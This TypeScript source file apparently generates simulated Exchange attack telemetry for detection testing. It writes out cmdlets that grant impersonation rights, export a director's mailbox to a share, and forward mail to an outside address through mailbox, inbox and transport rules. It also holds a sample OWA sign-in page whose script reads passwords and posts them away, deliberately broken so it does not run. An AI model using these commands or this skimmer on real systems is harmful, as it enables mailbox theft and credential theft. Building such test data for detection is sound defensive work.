import { collectedFile } from './files.ts'
import { mailboxes, mailboxesRead } from './mail-rows.ts'
import { HOUR, marksOf, MINUTE, utc, W3WP, type Outsider, type Planned } from './plan.ts'
import type { World } from './world.ts'

const SHELL_POOL = 'w3wp#MSExchangePowerShellAppPool'

/**
 * Theft of mail with the password of an administrator: the right to act as everybody is given to an account that
 * nobody watches, many mailboxes are read with a script at night, one is exported, others are forwarded.
 */
export function mailTheft(world: World): Planned[] {
  const { server } = world
  const who: Outsider = {
    id: 'm1',
    address: '203.0.113.41',
    agent: 'exchangelib/5.0.3 (python-requests/2.31.0)',
  }
  const mark = marksOf('mail-theft', who.id)
  const start = utc('2025-03-12T01:10:20.400')
  const admin = 'corp.example/IT/hofer'
  const share = `\\\\${server.name}\\c$\\ProgramData\\d.pst`
  const ran = (after: number, name: string, parameters: string, stage: string, names = {}): Planned => [
    start + after,
    (time) => world.cmdlet(time, name, parameters, admin, SHELL_POOL, mark(stage, names)),
  ]
  return [
    ran(
      0,
      'New-ManagementRoleAssignment',
      '-Name "print-1" -Role "ApplicationImpersonation" -User "svc-print"',
      'right',
      { account: ['svc-print'] },
    ),
    ...mailboxesRead(
      world,
      start + 22 * MINUTE,
      20_000,
      mailboxes(21, 24),
      { user: 'CORP\\svc-print', client: who.address, agent: who.agent },
      mark('access'),
    ),
    ran(90 * MINUTE, 'New-MailboxExportRequest', `-Mailbox "director" -FilePath "${share}"`, 'export', {
      mailbox: ['director'],
      file: [share],
    }),
    ran(
      HOUR * 2,
      'Remove-MailboxExportRequest',
      '-Identity "director\\MailboxExport" -Confirm "False"',
      'export',
    ),
    ran(
      HOUR * 2 + MINUTE,
      'Set-Mailbox',
      '-Identity "director" -ForwardingSmtpAddress "smtp:box@outside.example" -DeliverToMailboxAndForward "True"',
      'forwarding',
      { mailbox: ['director'] },
    ),
    ran(
      HOUR * 2 + 2 * MINUTE,
      'New-InboxRule',
      '-Mailbox "user033" -Name "." -SubjectContainsWords "invoice" -ForwardTo "box@outside.example" -DeleteMessage "True"',
      'forwarding',
      { mailbox: ['user033'] },
    ),
    ran(
      HOUR * 2 + 3 * MINUTE,
      'New-TransportRule',
      '-Name "archive" -SentToScope "NotInOrganization" -BlindCopyTo "box@outside.example"',
      'forwarding',
    ),
  ]
}

/** A script in the sign-in page, cut so that it does not run, that reads the password and sends it away. */
const STEALING_PAGE = [
  '<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>',
  '<form action="/owa/auth.owa" method="POST" name="logonForm">',
  '<input id="username" name="username"/><input id="password" name="password" type="password"/>',
  '</form><script>function clkLgn( { // a sample that does not run',
  '  var u = document.getElementById("username").value, p = document.getElementById("password").value;',
  '  var x = new XMLHttpRequest(); x.open("POST", "/owa/auth/errorFE.aspx", true); x.send(btoa(u + ":" + p));',
  '</script>',
  '',
].join('\r\n')

/** Passwords captured on the sign-in page: the page is changed, people sign in, and the file with the passwords is fetched. */
export function signInCapture(world: World): Planned[] {
  const { server } = world
  const who: Outsider = { id: 'c1', address: '203.0.113.52', agent: 'curl/8.5.0' }
  const mark = marksOf('sign-in-capture', who.id)
  const start = utc('2025-06-04T02:14:30.100')
  const page = `${server.install}FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx`
  const ask = (
    time: number,
    method: string,
    stem: string,
    client: string,
    agent: string,
    stage: string,
  ): Planned => [
    time,
    (t) =>
      world.request(
        t,
        { protocol: 'Owa', method, stem, client, agent, status: 200, backEndStatus: null },
        { proxy: mark(stage), front: mark(stage) },
      ),
  ]
  return [
    [start, (t) => world.fileCreated(t, W3WP, page, mark('page-changed'))],
    [start + 10 * 24 * HOUR, (t) => collectedFile(world, t, page, STEALING_PAGE, mark('page-changed'))],
    // Each of these is somebody of the organisation who signs in; the script sends the password along.
    ...Array.from({ length: 12 }, (_, i): Planned => [
      start + (5 + i * 7) * HOUR,
      (t) =>
        world.text.iis(
          t,
          1,
          {
            method: 'POST',
            stem: '/owa/auth/errorFE.aspx',
            port: 443,
            client: `192.0.2.${130 + i}`,
            agent:
              'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/125.0.0.0 Safari/537.36',
            referrer: 'https://mail.corp.example/owa/auth/logon.aspx?replaceCurrent=1',
            status: 200,
            taken: 9,
          },
          mark('captured', { path: ['/owa/auth/errorFE.aspx'] }),
        ),
    ]),
    ...[26, 75, 122].map((hours) =>
      ask(start + hours * HOUR, 'GET', '/owa/auth/errlog.txt', who.address, who.agent, 'capture-fetched'),
    ),
  ]
}
